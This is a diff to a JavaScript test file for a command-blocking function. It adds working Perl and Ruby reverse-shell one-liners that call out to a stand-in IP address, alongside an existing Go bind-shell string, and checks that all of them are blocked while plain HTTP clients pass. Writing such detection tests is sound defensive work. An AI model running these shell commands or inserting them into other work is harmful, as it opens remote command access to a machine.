@@ -16,6 +16,9 @@ const GO_REVERSE =
 const GO_BIND =
   'cat > /tmp/b.go <<EOF\npackage main\nimport ("net"; "os/exec")\nfunc main() { l, _ := net.Listen("tcp", ":7005"); c, _ := l.Accept(); s := exec.Command("sh", "-i"); s.Stdin, s.Stdout = c, c; s.Run() }\nEOF\ngo run /tmp/b.go';
 
+const PERL_STREAMS = `perl -MIO::Socket -e '$c=IO::Socket::INET->new("198.51.100.23:7006");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`;
+const RUBY_LINES = `ruby -rsocket -e 'c=TCPSocket.new("198.51.100.23",7007);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`;
+
 describe("shells on sockets", () => {
   test.each([
     ["Tcl reverse shell", TCL_REVERSE],
@@ -23,6 +26,8 @@ describe("shells on sockets", () => {
     ["node bind shell", NODE_BIND],
     ["Go reverse shell", GO_REVERSE],
     ["Go bind shell", GO_BIND],
+    ["Perl's standard streams reopened on a socket, each line run", PERL_STREAMS],
+    ["Ruby running each line a socket sends", RUBY_LINES],
   ])("%s is stopped", (_name, command) => {
     const decided = decide(command);
     expect({ decision: decided.decision, rule: decided.rule }).toEqual({ decision: "block", rule: "network-reverse-shell" });
@@ -31,6 +36,8 @@ describe("shells on sockets", () => {
   test.each([
     ["a Tcl HTTP client", "tclsh <<'T'\nset s [socket example.com 80]\nputs $s \"HEAD / HTTP/1.0\\n\"\nflush $s\nputs [read $s]\nT"],
     ["a node HTTP server", `node -e 'require("http").createServer((q, r) => r.end("ok")).listen(3000)'`],
+    ["a Perl HTTP client printing what it reads", `perl -MIO::Socket -e '$c=IO::Socket::INET->new("example.com:80"); print $c "GET / HTTP/1.0\\r\\n\\r\\n"; print while <$c>'`],
+    ["a Ruby client printing a line", `ruby -rsocket -e 's=TCPSocket.new("example.com",80); s.print "HEAD / HTTP/1.0\\r\\n\\r\\n"; puts s.gets'`],
     [
       "a Go file server",
       'cat > srv.go <<EOF\npackage main\nimport ("net"; "net/http")\nfunc main() { l, _ := net.Listen("tcp", "127.0.0.1:8080"); http.Serve(l, http.FileServer(http.Dir("public"))) }\nEOF\ngo run srv.go',
